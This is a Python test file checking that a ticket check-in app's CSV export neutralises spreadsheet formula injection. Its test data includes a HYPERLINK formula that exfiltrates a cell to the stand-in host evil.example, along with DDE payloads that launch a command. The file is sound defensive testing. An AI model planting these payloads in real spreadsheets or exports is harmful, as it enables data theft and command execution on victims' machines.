"""CSV export against spreadsheet formula injection (issue 14 item 7), through the CLI as a user runs it."""
import csv
import io
import json
import subprocess
import sys

from checkin_app.domain.models import Batch
from checkin_app.store import Store
from checkin_app.store.tickets import apply_batch
from tests.factories import NIGHT_ONE, ticket
from tests.paths import ROOT

HOSTILE = {
    "inj-eq": '=HYPERLINK("http://evil.example/?x="&A1,"Click for a refund")',
    "inj-plus": "+1+cmd|' /C calc'!A0",
    "inj-minus": "-2+3",
    "inj-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "inj-tab": "\t=1+1",
    "inj-cr": "\r=1+1",
}


def hostile_store(path):
    store = Store(path)
    tickets = [ticket(code, holder_name=name, email=f"{code}@example.com") for code, name in HOSTILE.items()]
    tickets.append(ticket("=cmd", holder_name="Plain Name", order_ref="@order"))
    with store.transaction() as conn:
        apply_batch(conn, Batch(events=[NIGHT_ONE], tickets=tickets))
    store.close()


def exported_rows(data_dir, *args) -> str:
    proc = subprocess.run([sys.executable, "-m", "checkin_app", "--data-dir", str(data_dir), "export", *args],
                          cwd=ROOT, capture_output=True, timeout=60)
    assert proc.returncode == 0, proc.stderr
    return proc.stdout.decode("utf-8")  # bytes: text mode would turn the CR inside a cell into LF


def test_attack_formula_names_are_exported_as_text_in_csv(tmp_path):
    hostile_store(tmp_path)
    rows = {r["email"]: r for r in csv.DictReader(io.StringIO(exported_rows(tmp_path), newline=""))}
    for code, name in HOSTILE.items():
        cell = rows[f"{code}@example.com"]["holder_name"]
        assert cell == "'" + name, code  # the whole value kept, behind the quote spreadsheets read as "text"
    odd = next(r for r in rows.values() if r["holder_name"] == "Plain Name")
    assert odd["code"] == "'=cmd" and odd["order_ref"] == "'@order"
    assert rows["inj-eq@example.com"]["code"] == "inj-eq"  # harmless cells are untouched


def test_json_export_keeps_values_verbatim(tmp_path):
    hostile_store(tmp_path)
    doc = json.loads(exported_rows(tmp_path, "--format", "json"))
    names = {t["code"]: t["holder_name"] for t in doc["tickets"]}
    assert all(names[code] == name for code, name in HOSTILE.items())
